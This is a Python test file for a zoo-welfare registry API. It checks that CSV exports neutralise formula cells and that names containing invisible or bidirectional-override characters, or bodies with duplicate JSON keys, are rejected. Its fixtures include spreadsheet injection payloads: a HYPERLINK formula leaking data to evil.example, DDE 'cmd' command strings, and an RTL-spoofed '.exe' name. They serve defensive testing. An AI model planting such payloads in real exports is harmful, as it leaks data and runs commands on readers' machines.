"""OWASP API10:2023 Unsafe Consumption of APIs: what reporters, zoos and their spreadsheets send is
untrusted, and is checked or neutralised before the registry passes it on.

Finding 6: names were written verbatim into the concern CSV, so whoever may name an animal or an
enclosure could plant a formula (`=HYPERLINK(...)`, `+cmd|...`) that a spreadsheet runs when a
journalist opens the download. Text cells that could start a formula are quoted.

Finding 15: names and titles that show nothing (spaces, zero-width characters, a BOM) were
accepted, and bidirectional override and isolate characters could make text display in another
order than stored. Both are 422s, for every body, and stated in the OpenAPI schema.

Finding 15 (JSON): duplicate keys in a JSON body are refused: a parser that keeps the last and a
proxy or logger that keeps the first would disagree about what was sent.
"""

import csv
import io
import re
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlmodel import Session

from app.core import csvsafe, text
from tests.api.test_errors import assert_problem
from tests.api.test_reports import REPORTS, post_report, report_body
from tests.factories import make_animal, make_enclosure, make_species, make_zoo

API = "/api/v1"


HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'


DDE = "+cmd|' /C calc'!A0"


AT = "@SUM(1+1)*cmd|' /C calc'!A0"


MINUS = "-2+3+cmd|' /C calc'!A0"


def test_concern_csv_neutralises_formula_cells(client: TestClient, session: Session) -> None:
    zoo = make_zoo(session)
    pen = make_enclosure(session, zoo, name=HYPERLINK, last_inspected_on=None)
    species = make_species(session, common_name=AT)
    animal = make_animal(session, zoo, species, enclosure_id=pen.id, name=DDE)
    other = make_enclosure(session, zoo, name=MINUS, last_inspected_on=None)
    post_report(client, zoo.id, animal_id=animal.id, category="health", severity=5)

    response = client.get(f"{API}/zoos/{zoo.id}/concerns", params={"format": "csv"})
    assert response.status_code == 200, response.text
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert rows, "the scene raises flags"
    cells = [value for row in rows for value in row.values()]
    for cell in cells:
        assert not cell.startswith(csvsafe.FORMULA_PREFIXES), cell
    names = {row["name"] for row in rows} | {row["enclosure"] for row in rows}
    assert {"'" + DDE, "'" + HYPERLINK, "'" + MINUS} <= names
    assert "'" + AT in {row["species"] for row in rows}
    # Numbers stay numbers.
    animal_rows = [r for r in rows if r["subject_type"] == "animal"]
    assert animal_rows[0]["subject_id"] == str(animal.id)
    assert {r["subject_id"] for r in rows} >= {str(pen.id), str(other.id)}


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Dallae", "Dallae"),
        ("a=b", "a=b"),
        ("'=1", "''=1"),
        ("'hello", "'hello"),
        ("", ""),
        (-5, -5),
        (3, 3),
        (1.5, 1.5),
    ],
)
def test_neutralise_quotes_text_that_could_start_a_formula(value: object, written: object) -> None:
    assert csvsafe.neutralise(value) == written


@pytest.mark.parametrize("value", ["=1+1", "'=1", "''-2", "'hello", "'", "Dallae", "-", ""])
def test_restore_undoes_neutralise(value: str) -> None:
    assert csvsafe.restore(csvsafe.neutralise(value)) == value


def test_safe_writer_writes_neutralised_rows() -> None:
    out = io.StringIO()
    csvsafe.writer(out, lineterminator="\n").writerows([["=1", -1, "ok"]])
    assert out.getvalue() == "'=1,-1,ok\n"


SHOWS_NOTHING = ["   ", "\u200b\u200b", "\u2060", "\ufeff", " \u200d\t", "\u3164"]


BIDI = ["\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069"]


def _zoo(**overrides: Any) -> dict[str, Any]:
    return {"slug": "visible-zoo", "name": "Visible Zoo", "country_code": "KP"} | overrides


@pytest.mark.parametrize("value", SHOWS_NOTHING)
def test_a_zoo_name_that_shows_nothing_is_422(client: TestClient, value: str) -> None:
    body = assert_problem(client.post(f"{API}/zoos", json=_zoo(name=value)), 422, ["body", "name"])
    assert "invisible" in body["errors"][0]["message"]


@pytest.mark.parametrize("char", BIDI)
def test_bidi_controls_in_a_name_are_422(client: TestClient, char: str) -> None:
    response = client.post(f"{API}/zoos", json=_zoo(name=f"Zoo {char}oo"))
    body = assert_problem(response, 422, ["body", "name"])
    assert "bidirectional" in body["errors"][0]["message"]


def test_bidi_controls_in_any_body_text_are_422(client: TestClient, session: Session) -> None:
    zoo = make_zoo(session)
    response = client.post(REPORTS, json=report_body(zoo.id, description="ok \u202egnp.exe"))
    assert_problem(response, 422, ["body", "description"])


@pytest.mark.parametrize(
    ("path", "field"),
    [
        ("species", "common_name"),
        ("enclosures", "name"),
        ("animals", "name"),
        ("gifts", "title"),
        ("gifts", "donor_name"),
        ("keys", "name"),
    ],
)
def test_every_name_and_title_must_show_something(
    client: TestClient, session: Session, path: str, field: str
) -> None:
    zoo = make_zoo(session)
    species = make_species(session)
    bodies: dict[str, dict[str, Any]] = {
        "species": {
            "scientific_name": "Pan troglodytes",
            "common_name": "Chimpanzee",
            "taxon_class": "mammal",
            "iucn_category": "EN",
            "climate_zones": ["tropical"],
        },
        "enclosures": {
            "zoo_id": zoo.id,
            "name": "Ape House",
            "kind": "indoor",
            "area_m2": 100,
            "capacity": 5,
            "climate": "controlled",
        },
        "animals": {"zoo_id": zoo.id, "species_id": species.id, "name": "Dallae"},
        "gifts": {
            "title": "Two dogs",
            "donor_name": "A donor",
            "donor_country": "RU",
            "recipient_name": "A recipient",
            "recipient_country": "KP",
        },
        "keys": {"name": "a reporter", "role": "reporter"},
    }
    good = client.post(f"{API}/{path}", json=bodies[path])
    assert good.status_code == 201, good.text
    bodies[path][field] = "\u200b \ufeff"
    if path == "species":
        bodies[path]["scientific_name"] = "Pan paniscus"
    assert_problem(client.post(f"{API}/{path}", json=bodies[path]), 422, ["body", field])


def test_report_and_incident_titles_must_show_something(
    client: TestClient, session: Session
) -> None:
    zoo = make_zoo(session)
    assert_problem(client.post(REPORTS, json=report_body(zoo.id, title="\u2060")), 422)
    incident = post_report(client, zoo.id)["incident_id"]
    response = client.patch(f"{API}/incidents/{incident}", json={"title": "   "})
    assert_problem(response, 422, ["body", "title"])


def test_names_with_visible_text_around_spaces_are_kept(client: TestClient) -> None:
    response = client.post(f"{API}/zoos", json=_zoo(name="  Pyongyang\u200bZoo  "))
    assert response.status_code == 201, response.text


def test_updates_refuse_them_too(client: TestClient, session: Session) -> None:
    zoo = make_zoo(session)
    pen = make_enclosure(session, zoo)
    animal = make_animal(session, zoo)
    assert_problem(client.patch(f"{API}/zoos/{zoo.id}", json={"name": "\ufeff"}), 422)
    assert_problem(client.patch(f"{API}/enclosures/{pen.id}", json={"name": " "}), 422)
    response = client.patch(f"{API}/animals/{animal.id}", json={"name": "a\u2067b"})
    assert_problem(response, 422, ["body", "name"])


def test_the_openapi_document_states_the_rules(anon_client: TestClient) -> None:
    schemas = anon_client.get("/openapi.json").json()["components"]["schemas"]
    name = schemas["ZooCreate"]["properties"]["name"]
    assert name["pattern"] == text.DISPLAY_TEXT_PATTERN
    description = schemas["WelfareReportCreate"]["properties"]["description"]
    patterns = [s.get("pattern") for s in description.get("anyOf", [description])]
    assert text.BODY_TEXT_PATTERN in patterns
    display = re.compile(text.DISPLAY_TEXT_PATTERN)
    for value in SHOWS_NOTHING + [f"a{c}b" for c in BIDI]:
        assert not display.match(value), repr(value)
    assert display.match(" Dallae ")


def test_duplicate_keys_in_a_body_are_422(client: TestClient) -> None:
    body = b'{"slug": "twice", "slug": "again", "name": "Zoo", "country_code": "KP"}'
    response = client.post(
        "/api/v1/zoos", content=body, headers={"Content-Type": "application/json"}
    )
    assert response.status_code == 422
    assert "'slug' appears more than once" in response.json()["detail"]
    nested = b'{"slug": "nested", "name": "Zoo", "country_code": "KP", "x": {"a": 1, "a": 2}}'
    response = client.post(
        "/api/v1/zoos", content=nested, headers={"Content-Type": "application/json"}
    )
    assert response.status_code == 422
    assert client.get("/api/v1/zoos/twice").status_code == 404
